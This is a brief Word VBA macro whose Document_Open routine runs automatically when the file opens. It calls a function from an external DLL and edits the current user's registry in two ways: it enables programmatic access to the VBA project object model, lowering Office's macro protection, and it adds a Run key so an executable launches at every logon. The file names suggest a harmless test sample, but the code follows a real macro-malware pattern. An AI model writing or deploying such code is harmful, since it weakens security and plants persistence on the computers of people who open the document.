Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub Document_Open()
    StopHere
    Dim tool As Object
    Set tool = CreateObject("WScript.Shell")
    tool.RegWrite "HKCU\Software\Microsoft\Office\" & Application.Version & "\Word\Security\AccessVBOM", 1, "REG_DWORD"
    tool.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Notice", "harmless-none.exe"
End Sub
